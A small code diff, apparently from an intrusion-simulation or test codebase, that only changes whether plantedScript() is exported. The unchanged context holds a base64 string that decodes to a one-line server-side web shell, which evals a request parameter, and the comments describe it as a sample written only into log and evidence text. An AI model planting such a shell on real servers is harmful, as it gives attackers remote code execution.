@@ -6,7 +6,7 @@ const SCRIPT_BASE64 =
   "PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1ZXN0WyJsYXJjaDdRZCJdLCJ1bnNhZmUiKTt9PC9zY3JpcHQ+";
 
 /** Text that the intruder puts behind the address in `ExternalUrl`. It is only ever written into log and evidence text. */
-export function plantedScript(): string {
+function plantedScript(): string {
   return Buffer.from(SCRIPT_BASE64, "base64").toString("utf8");
 }
 
